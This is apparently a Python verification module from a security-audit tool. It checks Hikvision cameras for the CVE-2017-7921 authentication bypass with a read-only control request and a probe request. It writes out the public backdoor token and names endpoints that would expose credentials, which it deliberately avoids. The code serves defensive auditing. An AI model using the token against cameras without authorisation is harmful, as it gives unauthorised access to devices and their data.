"""CVE-2017-7921: a protected Hikvision resource answered with the public ``?auth=`` token.

ICSA-17-124-01 / nuclei-templates CVE-2017-7921: affected firmware accepts ``auth=YWRtaW46MTEK``
(base64 of the fixed string ``admin:11``, the same on every device: not anyone's credential) in place of
a login. We read the *least* sensitive protected resource, the device-information page — never
``/Security/users`` or ``/System/configurationFile`` (credential theft, devices.md §7.2).

Two GETs, both read-only: first the page without the token (it must be refused, 401/403: otherwise the
page is not protected and a 200 proves nothing — the "liar" answers 200 to everything), then with it.
Confirmed only when the second answer is a 200 XML ``<DeviceInfo>`` document. The body is matched and
dropped inside `fetch`; only status, length and the marker name are kept.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from camaudit.assess.verify._base import Outcome, Seen, Verification, VerifyResult, control_then_probe
from camaudit.model import Device

if TYPE_CHECKING:
    from camaudit.assess.framework import Context

ID = "hikvision-cve-2017-7921-auth-bypass"
CONTROL = "/system/deviceInfo"
TOKEN_PATH = "/system/deviceInfo?auth=YWRtaW46MTEK"  # noqa: S105 - the public backdoor token, not a secret
MARKERS = {"DeviceInfo": re.compile(rb"<DeviceInfo[\s>]")}
REFUSED = frozenset({401, 403})


def _decide(control: Seen, probe: Seen | None) -> tuple[Outcome, str]:
    if control.status is None:
        return Outcome.UNDETERMINED, f"no answer to the control request ({control.failure})"
    if control.status not in REFUSED:
        return Outcome.UNDETERMINED, f"the page is not refused without the token (status {control.status})"
    assert probe is not None
    if probe.status == 200 and probe.marker and "xml" in probe.content_type.lower():
        return Outcome.CONFIRMED, "the protected device-information page was served for the public token"
    if probe.status in REFUSED or probe.status == 404:
        return Outcome.NOT_CONFIRMED, f"the token was refused (status {probe.status})"
    return Outcome.UNDETERMINED, f"unexpected answer to the token request ({probe.describe()})"


async def run(device: Device, context: Context) -> VerifyResult:
    return await control_then_probe(
        ID,
        device,
        context,
        control=CONTROL,
        proof=TOKEN_PATH,
        refused=REFUSED,
        decide=_decide,
        markers=MARKERS,
    )


VERIFICATION = Verification(
    id=ID,
    cves=("CVE-2017-7921",),
    manufacturers=frozenset({"hikvision"}),
    sends=(f"GET {CONTROL} (control, no token)", f"GET {TOKEN_PATH} (public token)"),
    run=run,
)
